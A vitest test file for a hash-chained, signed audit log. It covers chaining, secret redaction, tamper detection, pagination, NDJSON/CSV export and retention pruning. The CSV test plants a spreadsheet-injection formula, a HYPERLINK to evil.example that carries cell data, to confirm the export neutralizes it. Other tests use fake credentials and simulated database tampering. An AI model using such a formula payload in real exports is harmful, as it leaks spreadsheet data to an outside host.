import { createHash } from 'node:crypto';
import { Readable, Writable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { canonicalJson, generateToken } from '@bulwark/protocol';
import { describe, expect, it } from 'vitest';
import { createGroupCommit } from '../db/group-commit.js';
import { BadRequestError } from '../errors.js';
import { countEvents, manualClock, openAudit, rewriteChain } from '../test-support/audit.js';
import { freshDatabasePerTest, type TestDatabase, testDatabases } from '../test-support/databases.js';
import { GENESIS_HASH } from './audit.chain.js';
import { AuditUnavailableError } from './audit.service.js';
import type { AuditInput } from './audit.types.js';

const event = (orgId: string | null, n: number, extra: Partial<AuditInput> = {}): AuditInput => ({
  orgId,
  actor: { type: 'user', id: `usr_${n % 3}`, display: `user ${n % 3}` },
  action: n % 2 === 0 ? 'audit.exported' : 'system.started',
  target: { type: 'thing', id: `thing_${n % 5}` },
  outcome: n % 4 === 0 ? 'denied' : 'success',
  context: { ip: '192.0.2.7', userAgent: 'vitest', requestId: `req_${n}` },
  details: { n },
  ...extra,
});

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let text = '';
  await pipeline(
    Readable.from(chunks),
    new Writable({
      write(chunk, _encoding, callback) {
        text += chunk;
        callback();
      },
    }),
  );
  return text;
}

describe.each(testDatabases())('audit log on $dialect', (target: TestDatabase) => {
  const database = freshDatabasePerTest(target);

  it('chains each organization separately, with contiguous sequence numbers under concurrent appends', async () => {
    const { audit, db } = await openAudit(database());
    const refs = await Promise.all(
      Array.from({ length: 300 }, (_, n) => audit.record(event(['org_a', 'org_b', null][n % 3]!, n))),
    );
    expect(new Set(refs.map((r) => r.chainId))).toEqual(new Set(['org_a', 'org_b', 'instance']));
    for (const chain of ['org_a', 'org_b', 'instance']) {
      const rows = await db
        .selectFrom('audit_events')
        .selectAll()
        .where('chain_id', '=', chain)
        .orderBy('seq')
        .execute();
      expect(rows.map((r) => r.seq)).toEqual(Array.from({ length: 100 }, (_, i) => i + 1));
      expect(rows[0]!.prev_hash).toBe(GENESIS_HASH);
      for (let i = 1; i < rows.length; i++) expect(rows[i]!.prev_hash).toBe(rows[i - 1]!.hash);
      expect((await audit.verify(chain)).ok).toBe(true);
    }
    await audit.close();
  });

  it('acknowledges an event only once it is committed', async () => {
    const { audit, db } = await openAudit(database());
    const ref = await audit.record(event('org_a', 1));
    // Read back on the same database right after the promise resolved: the row is there.
    const row = await db.selectFrom('audit_events').selectAll().where('id', '=', ref.id).executeTakeFirst();
    expect(row).toMatchObject({
      chain_id: 'org_a',
      seq: 1,
      hash: ref.hash,
      action: 'system.started',
      // A user's IP is stored sealed under their PII key (DATA-2; audit-pii.ts).
      ip: expect.stringMatching(/^enc1\.pik_/),
    });
    await audit.close();
  });

  it('fails closed: when the event cannot be stored the caller gets an error, not a silent success', async () => {
    const { audit } = await openAudit(database());
    await audit.record(event('org_a', 1));
    await database().close();
    await expect(audit.record(event('org_a', 2))).rejects.toBeInstanceOf(AuditUnavailableError);
  });

  it('commits its events even when a write it shares a group commit with fails', async () => {
    // The batch of events is taken when the shared transaction runs; when another write in it fails,
    // each write is retried alone and the audit's retry must carry the very same events.
    const groupCommit = createGroupCommit(database().db);
    const { audit, db } = await openAudit(database(), { groupCommit });
    const org = { id: 'org_taken', slug: 'taken', name: 'Taken', created_at: 1, mfa_required: 1 };
    await db.insertInto('orgs').values(org).execute();
    const events = [audit.record(event('org_a', 1)), audit.record(event('org_a', 2))];
    const duplicate = groupCommit((trx) => trx.insertInto('orgs').values(org).execute());
    events.push(audit.record(event('org_a', 3)));
    await expect(duplicate).rejects.toThrow();
    expect((await Promise.all(events)).map((ref) => ref.seq)).toEqual([1, 2, 3]);
    expect(await countEvents(db)).toBe(3);
    expect((await audit.verify('org_a')).ok).toBe(true);
    await audit.close();
  });

  it('records details that hold a secret with the secret redacted, never refusing the event', async () => {
    const { audit, db } = await openAudit(database());
    const leaked = 'bwk_4Jq8ZpX2mN7vR1tY6uI3oP9aS5dF0gH2jK4lZ8xC';
    const attempts: Array<[AuditInput['details'], string]> = [
      [{ password: 'hunter2hunter2' }, 'hunter2hunter2'],
      [{ apiKey: 'whatever' }, 'whatever'],
      [{ nested: { list: ['fine', leaked] } }, leaked],
      [
        { note: 'Authorization: Bearer abcdefghijklmnopqrstuvwxyz012345' },
        'abcdefghijklmnopqrstuvwxyz012345',
      ],
      [{ key: '-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEI' }, 'MC4CAQAwBQYDK2VwBCIEI'],
      [{ jwt: 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.c2lnbmF0dXJl' }, 'eyJzdWIiOiIxMjM0NSJ9'],
      [{ dsn: 'postgres://app:s3cret@db.internal/prod' }, 's3cret'],
      [{ newPassword: 'correct horse battery staple' }, 'correct horse'],
      [{ user: { sessionToken: 'abc' } }, '"abc"'],
      [{ privateKeyPem: 'MC4CAQAwBQYDK2VwBCIEI' }, 'MC4CAQAwBQYDK2VwBCIEI'],
      [{ code: 123456 }, '123456'],
      [{ [leaked]: 'a token as a key' }, leaked],
    ];
    for (const [details, secret] of attempts) {
      const ref = await audit.record(event('org_a', 1, { details }));
      const row = await db
        .selectFrom('audit_events')
        .select('details')
        .where('id', '=', ref.id)
        .executeTakeFirstOrThrow();
      expect(row.details).toContain('[redacted');
      expect(row.details).not.toContain(secret);
    }
    // Every token Bulwark issues is caught, whatever characters its random body happens to start with,
    // and only the token is cut: the words around it stay.
    for (let i = 0; i < 300; i++) {
      const token = generateToken(i % 2 === 0 ? 'bwk' : 'bws');
      const ref = await audit.record(event('org_a', 1, { details: { note: `leaked ${token} here` } }));
      const row = await db
        .selectFrom('audit_events')
        .select('details')
        .where('id', '=', ref.id)
        .executeTakeFirstOrThrow();
      expect(JSON.parse(row.details)).toEqual({ note: 'leaked [redacted: a Bulwark token] here' });
    }
    // Saying whether a secret was set is kept as it is.
    const kept = {
      password: null,
      secret: true,
      tokenId: 'rtk_01J',
      secretName: 'db',
      passwordChangedAt: 1,
      apiKeyPrefix: 'bwk_3f',
    };
    const ref = await audit.record(event('org_a', 1, { details: kept }));
    const row = await db
      .selectFrom('audit_events')
      .select('details')
      .where('id', '=', ref.id)
      .executeTakeFirstOrThrow();
    expect(JSON.parse(row.details)).toEqual(kept);
    expect(await countEvents(db)).toBe(attempts.length + 300 + 1);
    expect((await audit.verify('org_a')).ok).toBe(true);
    await audit.close();
  });

  it('signs a checkpoint every N events and at close, and verification checks each', async () => {
    const { audit, store } = await openAudit(database(), { checkpointEvery: 10 });
    for (let n = 1; n <= 25; n++) {
      await audit.record(event('org_a', n));
      if (n % 10 === 0) await audit.settled();
    }
    await audit.close();
    const checkpoints = await store.checkpoints('org_a');
    expect(checkpoints.map((c) => [c.kind, c.seq])).toEqual([
      ['checkpoint', 10],
      ['checkpoint', 20],
      ['checkpoint', 25],
    ]);
    const result = await audit.verify('org_a');
    expect(result).toMatchObject({ ok: true, events: 25, checkpoints: 3, headSeq: 25 });
  });

  describe('tamper detection (the attacker can write the database but holds neither key)', () => {
    async function seeded() {
      const harness = await openAudit(database(), { checkpointEvery: 5 });
      for (let n = 0; n < 12; n++) {
        await harness.audit.record(event('org_a', n));
        await harness.audit.settled();
      }
      await harness.audit.checkpointAll();
      return harness;
    }

    it('an edited event is reported at its sequence number', async () => {
      const { audit, db } = await seeded();
      // Attack: rewrite who did it, to hide an action.
      await db
        .updateTable('audit_events')
        .set({ actor_display: 'someone else' })
        .where('seq', '=', 7)
        .execute();
      const result = await audit.verify('org_a');
      expect(result.ok).toBe(false);
      expect(result.broken).toMatchObject({ seq: 7, reason: expect.stringContaining('edited') });
    });

    it('a deleted event is reported as missing', async () => {
      const { audit, db } = await seeded();
      // Attack: remove the record of an action entirely.
      await db.deleteFrom('audit_events').where('seq', '=', 4).execute();
      const result = await audit.verify('org_a');
      expect(result.broken).toMatchObject({ seq: 4, reason: expect.stringContaining('missing') });
    });

    it('two swapped events are reported at the first of them', async () => {
      const { audit, db } = await seeded();
      // Attack: reorder history (make a denial appear after the action it preceded).
      await db.updateTable('audit_events').set({ seq: -1 }).where('seq', '=', 3).execute();
      await db.updateTable('audit_events').set({ seq: 3 }).where('seq', '=', 8).execute();
      await db.updateTable('audit_events').set({ seq: 8 }).where('seq', '=', -1).execute();
      const result = await audit.verify('org_a');
      expect(result.broken).toMatchObject({ seq: 3 });
    });

    it('a chain edited and fully re-hashed is caught by the signed checkpoints', async () => {
      const { audit, db } = await seeded();
      // Attack: edit event 2, then recompute every hash so the chain is self-consistent again.
      await rewriteChain(db, 'org_a', (row) =>
        row.seq === 2 ? { outcome: 'success', details: '{"n":99}' } : {},
      );
      const result = await audit.verify('org_a');
      expect(result.broken).toMatchObject({ seq: 5, reason: expect.stringContaining('signed checkpoint') });
    });

    it('a cut-off tail is caught by the head, and by a checkpoint beyond a head moved back', async () => {
      const { audit, db } = await seeded();
      // Attack: delete the newest events.
      await db.deleteFrom('audit_events').where('seq', '>=', 11).execute();
      expect((await audit.verify('org_a')).broken?.reason).toContain(
        'head records seq 12 but the events end at seq 10',
      );
      // And move the head record back to cover the cut.
      const tenth = await db
        .selectFrom('audit_events')
        .select('hash')
        .where('seq', '=', 10)
        .executeTakeFirstOrThrow();
      await db
        .updateTable('audit_chain_heads')
        .set({ seq: 10, hash: tenth.hash })
        .where('chain_id', '=', 'org_a')
        .execute();
      expect((await audit.verify('org_a')).broken?.reason).toContain('a signed checkpoint covers seq 12');
    });

    it('a forged or altered checkpoint signature is refused', async () => {
      const { audit, db } = await seeded();
      await db
        .updateTable('audit_checkpoints')
        .set({ hash: 'f'.repeat(64) })
        .where('seq', '=', 5)
        .execute();
      expect((await audit.verify('org_a')).broken?.reason).toContain('invalid signature');
    });
  });

  it('queries with filters and cursor pagination, newest first, without gaps or repeats', async () => {
    const clock = manualClock();
    const { audit } = await openAudit(database(), { clock: clock.now });
    for (let n = 0; n < 40; n++) {
      clock.advance(1000);
      await audit.record(event('org_a', n));
    }
    await audit.record(event('org_b', 0));

    const seen: number[] = [];
    let cursor: string | undefined;
    do {
      const page = await audit.query('org_a', {}, { limit: 7, ...(cursor ? { cursor } : {}) });
      seen.push(...page.events.map((e) => e.seq));
      cursor = page.nextCursor ?? undefined;
    } while (cursor);
    expect(seen).toEqual(Array.from({ length: 40 }, (_, i) => 40 - i));

    const denied = await audit.query('org_a', { outcome: 'denied' }, { limit: 100 });
    expect(denied.events.map((e) => Number(JSON.parse(e.details).n))).toEqual([
      36, 32, 28, 24, 20, 16, 12, 8, 4, 0,
    ]);
    const byActorAndTarget = await audit.query(
      'org_a',
      { actorId: 'usr_1', targetId: 'thing_0' },
      { limit: 100 },
    );
    expect(byActorAndTarget.events.map((e) => Number(JSON.parse(e.details).n))).toEqual([25, 10]);
    const byAction = await audit.query('org_a', { action: 'audit.exported' }, { limit: 100 });
    expect(byAction.events).toHaveLength(20);
    const start = Date.UTC(2026, 0, 1);
    const window = await audit.query('org_a', { since: start + 5000, until: start + 8000 }, { limit: 100 });
    expect(window.events.map((e) => e.seq)).toEqual([7, 6, 5]);
    await expect(audit.query('org_a', {}, { limit: 5, cursor: 'bm90LWEtY3Vyc29y' })).rejects.toBeInstanceOf(
      BadRequestError,
    );
    await audit.close();
  });

  it('exports NDJSON that a third party can verify with SHA-256 and canonical JSON alone, and audits the export', async () => {
    const { audit } = await openAudit(database());
    // More than one export page (1000 rows) to prove the export streams across pages.
    for (let batch = 0; batch < 5; batch++) {
      await Promise.all(Array.from({ length: 500 }, (_, n) => audit.record(event('org_a', batch * 500 + n))));
    }
    const chunks = await audit.openExport({
      chainId: 'org_a',
      filters: {},
      format: 'ndjson',
      actor: { type: 'user', id: 'usr_auditor', display: 'auditor' },
    });
    const lines = (await collect(chunks)).trimEnd().split('\n');
    // 2,500 events plus the record of this export, written before the first byte.
    expect(lines).toHaveLength(2501);
    let prev = GENESIS_HASH;
    for (const line of lines) {
      const {
        prevHash,
        hash,
        time: _time,
        shown: _shown,
        ...hashed
      } = JSON.parse(line) as Record<string, unknown>;
      expect(prevHash).toBe(prev);
      const recomputed = createHash('sha256')
        .update(`${prev}\n${canonicalJson(hashed)}`)
        .digest('hex');
      expect(recomputed).toBe(hash);
      prev = hash as string;
    }
    expect(JSON.parse(lines.at(-1)!)).toMatchObject({
      action: 'audit.exported',
      actor: { id: 'usr_auditor' },
      details: { format: 'ndjson' },
    });
    await audit.close();
  });

  it('exports CSV with every chain field and neutralizes spreadsheet formulas', async () => {
    const { audit } = await openAudit(database());
    await audit.record(
      event('org_a', 1, {
        // An API key's name (a user's display would be stored sealed, DATA-2).
        actor: { type: 'api_key', id: 'usr_x', display: '=HYPERLINK("http://evil.example/?"&A1,"click")' },
      }),
    );
    await audit.record(event('org_a', 2, { target: { type: 'agent', id: '@SUM(1+1)', display: '-2+3' } }));
    const csv = await collect(
      await audit.openExport({
        chainId: 'org_a',
        filters: { actorId: 'usr_x' },
        format: 'csv',
        actor: { type: 'system', id: 'test' },
      }),
    );
    const [header, row] = csv.split('\r\n');
    expect(header).toBe(
      'seq,id,time,ts,chain,org,actor_type,actor_id,actor_display,ip,user_agent,action,target_type,target_id,target_display,outcome,request_id,details,prev_hash,hash,shown_actor_display,shown_ip,shown_user_agent,shown_target_display',
    );
    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(row).not.toMatch(/,=HYPERLINK/);
    const all = await collect(
      await audit.openExport({
        chainId: 'org_a',
        filters: {},
        format: 'csv',
        actor: { type: 'system', id: 'test' },
      }),
    );
    expect(all).toContain(",'@SUM(1+1),'-2+3,");
    await audit.close();
  });

  describe('retention', () => {
    const DAY = 86_400_000;

    it('prunes old events behind a signed anchor, and the rest still verifies', async () => {
      const clock = manualClock();
      const { audit, store, db } = await openAudit(database(), {
        retentionDays: 30,
        checkpointEvery: 4,
        clock: clock.now,
      });
      for (let n = 0; n < 10; n++) await audit.record(event('org_a', n));
      clock.advance(20 * DAY);
      for (let n = 10; n < 15; n++) await audit.record(event('org_a', n));
      await audit.settled();
      await audit.checkpointAll();
      clock.advance(15 * DAY); // the first 10 are now 35 days old, the next 5 are 15 days old

      const [result] = await audit.prune();
      expect(result).toMatchObject({ chainId: 'org_a', throughSeq: 10, deleted: 10 });
      const remaining = await db
        .selectFrom('audit_events')
        .select('seq')
        .where('chain_id', '=', 'org_a')
        .orderBy('seq')
        .execute();
      expect(remaining.map((r) => r.seq)).toEqual([11, 12, 13, 14, 15, 16]); // 16: the audit.pruned event
      expect((await store.checkpoints('org_a')).filter((c) => c.kind === 'anchor').map((c) => c.seq)).toEqual(
        [10],
      );
      expect(await audit.verify('org_a')).toMatchObject({ ok: true, anchorSeq: 10, events: 6 });
      const pruned = await audit.query('org_a', { action: 'audit.pruned' }, { limit: 1 });
      expect(JSON.parse(pruned.events[0]!.details)).toEqual({
        throughSeq: 10,
        deleted: 10,
        retentionDays: 30,
      });

      // After pruning, tampering with the first kept event is still caught (it no longer links to the anchor).
      await db
        .updateTable('audit_events')
        .set({ prev_hash: 'a'.repeat(64) })
        .where('seq', '=', 11)
        .execute();
      expect((await audit.verify('org_a')).broken).toMatchObject({ seq: 11 });
      await audit.close();
    });

    it('an attacker cannot hide deletions behind a forged anchor', async () => {
      const clock = manualClock();
      const { audit, db } = await openAudit(database(), { retentionDays: 30, clock: clock.now });
      for (let n = 0; n < 6; n++) await audit.record(event('org_a', n));
      clock.advance(40 * DAY);
      await audit.record(event('org_a', 6));
      await audit.checkpointAll();
      await audit.prune();
      // Attack: delete events 7 and 8 and move the anchor forward over them.
      const kept = await db
        .selectFrom('audit_events')
        .selectAll()
        .where('chain_id', '=', 'org_a')
        .orderBy('seq')
        .execute();
      await db.deleteFrom('audit_events').where('seq', 'in', [7, 8]).execute();
      await db
        .updateTable('audit_checkpoints')
        .set({ seq: 8, hash: kept.find((r) => r.seq === 8)!.hash })
        .where('kind', '=', 'anchor')
        .execute();
      expect((await audit.verify('org_a')).broken?.reason).toContain(
        'anchor at seq 8 has an invalid signature',
      );
      await audit.close();
    });

    it('never prunes a chain that does not verify: that would destroy the evidence', async () => {
      const clock = manualClock();
      const { audit, db } = await openAudit(database(), { retentionDays: 30, clock: clock.now });
      for (let n = 0; n < 5; n++) await audit.record(event('org_a', n));
      await audit.flush();
      await db.updateTable('audit_events').set({ action: 'audit.exported' }).where('seq', '=', 2).execute();
      clock.advance(60 * DAY);
      const [result] = await audit.prune();
      expect(result).toMatchObject({ deleted: 0, skipped: expect.stringContaining('edited') });
      expect(await countEvents(db)).toBe(5);
      await audit.close();
    });
  });
});
